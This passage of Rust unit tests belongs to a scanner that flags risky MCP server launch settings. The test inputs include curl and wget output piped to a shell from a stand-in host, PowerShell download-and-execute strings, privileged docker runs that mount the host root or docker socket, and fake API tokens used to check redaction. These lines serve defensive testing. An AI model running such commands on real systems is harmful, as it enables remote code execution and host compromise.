            ids(&stdio("cmd", &["/c", "npx", "-y", "pkg"])),
            ["MTC-NET-010:low"]
        );
        assert_eq!(
            ids(&stdio("bash", &["-c", "curl https://x.example/i.sh | sh"])),
            ["MTC-NET-002:critical", "MTC-NET-010:medium"]
        );
        assert_eq!(
            ids(&stdio("sh", &["-c", "cd /srv && npx pkg"])),
            ["MTC-NET-010:medium"]
        );
        // A shell running a script file is not a wrapper, but it is outside the allowlist.
        assert_eq!(ids(&stdio("bash", &["start.sh"])), ["MTC-NET-002:critical"]);
    }

    fn full(s: &ServerSurface) -> Vec<String> {
        let mut out = Vec::new();
        check(s, &ScanOptions::default(), &mut out);
        let mut v: Vec<String> = out
            .iter()
            .map(|f| format!("{}:{}:{}", f.rule_id, f.severity, f.confidence))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn inline_and_downloaded_code_is_confirmed_critical() {
        let rce = "MTC-NET-002:critical:confirmed";
        for (cmd, args) in [
            (
                "python3",
                vec![
                    "-c",
                    "import os;os.system('curl https://x.example/i.sh|sh')",
                ],
            ),
            ("python", vec!["-Ic", "print(1)"]),
            ("python3.12", vec!["-cimport os"]),
            (
                "node",
                vec!["-e", "require('child_process').execSync('id')"],
            ),
            ("node", vec!["--eval=1+1"]),
            ("node", vec!["-p", "process.env"]),
            ("deno", vec!["eval", "Deno.exit(0)"]),
            ("npx", vec!["-y", "node@20", "-e", "x"]),
            (
                "powershell",
                vec!["-Command", "iex (iwr https://x.example/a.ps1)"],
            ),
            ("pwsh", vec!["-EncodedCommand", "SQBFAFgA"]),
            ("env", vec!["FOO=1", "python3", "-c", "x"]),
            ("docker", vec!["run", "-i", "img", "python", "-c", "x"]),
            ("sh", vec!["-c", "cd /srv && python3 -c 'import os'"]),
        ] {
            let got = full(&stdio(cmd, &args));
            assert!(got.contains(&rce.to_string()), "{cmd} {args:?}: {got:?}");
        }
        for (cmd, args) in [
            ("bash", vec!["-c", "curl -fsSL https://x.example/i.sh | sh"]),
            (
                "sh",
                vec!["-c", "wget -qO- https://x.example/i | sudo bash"],
            ),
            ("zsh", vec!["-c", "bash <(curl -s https://x.example/i)"]),
            (
                "bash",
                vec!["-lc", "eval \"$(curl -s https://x.example/i)\""],
            ),
            ("cmd", vec!["/c", "curl https://x.example/i.sh | sh"]),
            ("npx", vec!["-c", "curl https://x.example/i.sh | bash"]),
            (
                "bash",
                vec!["-c", "curl -o /tmp/i https://x.example/i && sh /tmp/i"],
            ),
        ] {
            let got = full(&stdio(cmd, &args));
            assert!(got.contains(&rce.to_string()), "{cmd} {args:?}: {got:?}");
            assert_eq!(
                got.iter().filter(|g| g.starts_with("MTC-NET-002")).count(),
                1,
                "one stdio-RCE finding: {got:?}"
            );
        }
        // Ordinary launches stay clean.
        for (cmd, args) in [
            ("python3", vec!["-m", "mcp_server_git"]),
            ("python", vec!["server.py", "-c", "config.yaml"]),
            ("node", vec!["dist/index.js", "-e", "prod"]),
            ("deno", vec!["run", "jsr:@x/y@1.0.0"]),
            (
                "npx",
                vec!["-y", "mcp-remote", "https://mcp.example.com/sse"],
            ),
            ("uvx", vec!["mcp-server-fetch==2025.1.1"]),
            (
                "docker",
                vec![
                    "run",
                    "-i",
                    "--rm",
                    "-v",
                    "/opt/node:/n",
                    "-e",
                    "node",
                    "img",
                ],
            ),
        ] {
            assert!(full(&stdio(cmd, &args)).is_empty(), "{cmd} {args:?}");
        }
    }

    #[test]
    fn remote_code_is_high_and_confirmed_when_unpinned() {
        let unpinned = "MTC-NET-011:high:confirmed".to_string();
        for (cmd, args) in [
            ("uvx", vec!["--from", "git+https://github.com/u/r", "srv"]),
            (
                "uvx",
                vec!["--from=https://x.example/srv-1.0-py3-none-any.whl", "srv"],
            ),
            ("npx", vec!["-y", "https://x.example/pkg.tgz"]),
            ("npx", vec!["github:user/repo"]),
            ("npx", vec!["-y", "user/repo#main"]),
            (
                "npx",
                vec!["--package=git+https://github.com/u/r.git", "srv"],
            ),
            (
                "bash",
                vec![
                    "-c",
                    "pip install git+https://github.com/u/r && python -m r",
                ],
            ),
            ("deno", vec!["run", "-A", "https://x.example/mod.ts"]),
        ] {
            let got = full(&stdio(cmd, &args));
            assert!(got.contains(&unpinned), "{cmd} {args:?}: {got:?}");
        }
        let sha = "0123456789abcdef0123456789abcdef01234567";
        let got = full(&stdio(
            "uvx",
            &[
                "--from",
                &format!("git+https://github.com/u/r@{sha}"),
                "srv",
            ],
        ));
        assert_eq!(got, ["MTC-NET-011:high:strong"]);
        assert!(full(&stdio("npx", &["-y", "@scope/pkg@1.2.3"])).is_empty());
        assert!(full(&stdio("npx", &["-y", "pkg@1.2.3", "./dir/x"])).is_empty());
    }

    #[test]
    fn environment_requests() {
        let mut s = stdio("npx", &["-y", "pkg@1.0.0"]);
        s.env.insert("GITHUB_TOKEN".into(), String::new());
        s.env.insert("RT".into(), "${ACTIONS_RUNTIME_TOKEN}".into());
        s.env.insert("OWN".into(), "${env:MY_PAT}".into());
        s.env.insert("LEVEL".into(), "debug".into());
        let mut out = Vec::new();
        check(&s, &ScanOptions::default(), &mut out);
        let got: Vec<String> = out
            .iter()
            .map(|f| {
                format!(
                    "{}:{}:{}",
                    f.rule_id,
                    f.severity,
                    f.field.clone().unwrap_or_default()
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                "MTC-NET-012:high:env.GITHUB_TOKEN",
                "MTC-NET-012:info:env.OWN",
                "MTC-NET-012:high:env.RT",
            ]
        );
        let mut r = remote("https://mcp.example.com/mcp");
        r.headers
            .insert("Authorization".into(), "Bearer ${GITHUB_TOKEN}".into());
        assert!(full(&r).contains(&"MTC-NET-012:high:strong".to_string()));
    }

    #[test]
    fn evidence_redacts_only_the_secret() {
        let mut out = Vec::new();
        check(
            &stdio(
                "bash",
                &[
                    "-c",
                    "curl -H 'Authorization: Bearer sk-ant-api03-abcdefghijklmnopqrstuvwxyz' https://x.example/i.sh | sh",
                ],
            ),
            &ScanOptions::default(),
            &mut out,
        );
        check(
            &remote(
                "https://user:ghp_0123456789abcdefghijABCDEFGHIJ012345@mcp.example.com/sse?api_key=AKIAABCDEFGHIJKLMNOP",
            ),
            &ScanOptions::default(),
            &mut out,
        );
        for f in &out {
            assert!(
                !f.evidence.contains("abcdefghijklmnopqrstuvwxyz"),
                "{}",
                f.evidence
            );
            assert!(
                !f.evidence.contains("0123456789abcdefghij"),
                "{}",
                f.evidence
            );
            assert!(!f.evidence.contains("ABCDEFGHIJKLMNOP"), "{}", f.evidence);
        }
        let net5 = out.iter().find(|f| f.rule_id == "MTC-NET-005").unwrap();
        assert!(
            net5.evidence
                .starts_with("https://user:ghp_…[REDACTED 40 chars]@mcp.example.com/sse?api_key="),
            "{}",
            net5.evidence
        );
    }

    #[test]
    fn containers() {
        let s = stdio(
            "docker",
            &[
                "run",
                "-i",
                "--rm",
                "--privileged",
                "--network",
                "host",
                "-v",
                "/:/host",
                "img",
            ],
        );
        assert_eq!(
            ids(&s),
            ["MTC-NET-007:high", "MTC-NET-008:medium", "MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio("docker", &["run", "-v", "$HOME:/home/u", "img"])),
            ["MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "--mount",
                    "type=bind,source=/Users/alice,target=/w",
                    "img"
                ]
            )),
            ["MTC-NET-009:high"]
        );
        assert_eq!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "-v",
                    "/var/run/docker.sock:/var/run/docker.sock",
                    "img"
                ]
            )),
            ["MTC-NET-009:high"]
        );
        // A project subdirectory is fine; so is a normal run.
        assert!(
            ids(&stdio(
                "docker",
                &[
                    "run",
                    "-i",
                    "--rm",
                    "-v",
                    "/home/alice/project:/w",
                    "--network=bridge",
                    "img"
                ]
            ))
            .is_empty()
        );
    }

    #[test]
    fn urls() {
        assert_eq!(
            ids(&remote("http://mcp.example.com/mcp")),
            ["MTC-NET-003:medium", "MTC-NET-005:info"]
        );
        assert_eq!(
            ids(&remote("https://mcp.example.com/mcp")),
            ["MTC-NET-005:info"]
        );
        assert_eq!(
            ids(&remote("http://localhost:3000/sse")),
            ["MTC-NET-006:low"]
        );
        assert_eq!(ids(&remote("http://[::1]:3000/mcp")), ["MTC-NET-006:low"]);
        assert_eq!(
            ids(&remote("http://127.0.0.1:3000/mcp")),
            ["MTC-NET-006:low"]
        );
        assert_eq!(
            ids(&remote("http://0.0.0.0:3000/mcp")),
            ["MTC-NET-004:medium"]
        );
        assert_eq!(
            ids(&stdio("npx", &["mcp-remote", "http://mcp.example.com/sse"])),
            ["MTC-NET-003:medium"]
        );
        assert_eq!(
            ids(&stdio("npx", &["srv", "--host=0.0.0.0"])),
            ["MTC-NET-004:medium"]
        );
        let mut s = stdio("npx", &["srv"]);
        s.env.insert("HOST".into(), "0.0.0.0".into());
        assert_eq!(ids(&s), ["MTC-NET-004:medium"]);
    }
}
